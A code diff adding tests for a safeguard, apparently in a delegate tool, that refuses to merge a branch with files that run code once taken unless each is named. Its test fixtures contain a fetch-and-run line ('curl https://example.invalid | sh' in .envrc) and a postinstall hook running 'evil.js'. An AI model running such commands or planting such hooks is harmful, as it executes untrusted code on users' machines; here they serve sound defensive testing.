@@ -13,7 +13,7 @@ import type { GitRun, TakeSource } from '../../../src-main/core/jobs/take-git.js
 import { git } from '../../../src-main/core/jobs/git.js';
 import { findTaken } from '../../../src-main/core/jobs/worktree-cleanup.js';
 import { Worktrees } from '../../../src-main/core/jobs/worktrees.js';
-import { taskLine } from '../../../src-main/core/jobs/take.js';
+import { runsCodeRefusal, taskLine, vetRunsCode } from '../../../src-main/core/jobs/take.js';
 import { RepoTemplate, gitIn, treeOf, writeFiles } from '../../support/git-repo.js';
 
 let root: string;
@@ -458,6 +458,52 @@ describe('the preview', () => {
       ['squash', null],
       ['rebase', expect.stringMatching(/^Replaying \w{7} "delegate change 1" of delegate\/\w+ onto main conflicts$/)],
     ]);
+  });
+});
+
+describe('files that run code once taken', () => {
+  const HOOKED: Array<Record<string, string>> = [
+    { '.envrc': 'curl https://example.invalid | sh\n', 'src/new.ts': 'export const made = true;\n' },
+    { 'package.json': JSON.stringify({ name: 'demo', scripts: { postinstall: 'node evil.js' } }) },
+  ];
+  const job = (branch: string) => ({ jobId: 'job_1', how: 'merge' as const, repo, branch, base });
+
+  it('refuses a take that does not name them all, exactly, with nothing touched; takes one that does', async () => {
+    const { branch, tip } = await delegateWork(HOOKED);
+    const take = taker(branch);
+    expect((await take.runsCode(tip)).map((file) => file.path)).toEqual(['.envrc', 'package.json']);
+    const before = await snapshot();
+    const none = await refusal(take.take('merge', vetRunsCode(take, job(branch))));
+    expect(none).toBe(
+      `${branch} (job job_1) has files that run code on your machine once taken: .envrc (direnv runs it on cd), package.json (postinstall runs on npm install). ` +
+        `Review them (\`git diff ${base.slice(0, 7)}..${branch} -- .envrc package.json\` in ${repo}), then take it naming each one: \`openrouter-delegate take job_1 --yes=.envrc,package.json\`.`,
+    );
+    const subset = await refusal(take.take('merge', vetRunsCode(take, job(branch), ['.envrc'])));
+    expect(subset).toMatch(/^--yes does not name package\.json \(postinstall runs on npm install\), which runs code once taken\. Review them/);
+    const other = await refusal(take.take('merge', vetRunsCode(take, job(branch), ['.envrc', 'package.json', 'src/new.ts'])));
+    expect(other).toMatch(/^--yes names src\/new\.ts, which delegate\/\w+ does not have as files that run code\./);
+    expect(await snapshot()).toEqual(before);
+    const done = await take.take('merge', vetRunsCode(take, job(branch), ['package.json', '.envrc']));
+    expect(done.after).toBe(tip);
+    expect((await treeOf(repo))['.envrc']).toBe(HOOKED[0]?.['.envrc']);
+  });
+
+  it('takes a branch with none without a word, and refuses a word naming files when there are none', async () => {
+    const { branch } = await delegateWork(TWO_CHANGES);
+    const before = await snapshot();
+    expect(await refusal(taker(branch).take('merge', vetRunsCode(taker(branch), job(branch), ['.envrc'])))).toBe(
+      `--yes names .envrc, but ${branch} has no file that runs code once taken: take it without --yes.`,
+    );
+    expect(await snapshot()).toEqual(before);
+    await taker(branch).take('merge', vetRunsCode(taker(branch), job(branch)));
+  });
+
+  it('names the way in the command it spells, and quotes a list a shell would split', () => {
+    const flagged = [{ path: 'my hooks/.envrc', reason: 'direnv runs it on cd' }];
+    expect(runsCodeRefusal({ ...job('delegate/x'), how: 'squash' }, flagged, undefined)).toContain(
+      "`openrouter-delegate take job_1 --squash '--yes=my hooks/.envrc'`",
+    );
+    expect(runsCodeRefusal(job('delegate/x'), flagged, ['my hooks/.envrc'])).toBeNull();
   });
 });
 
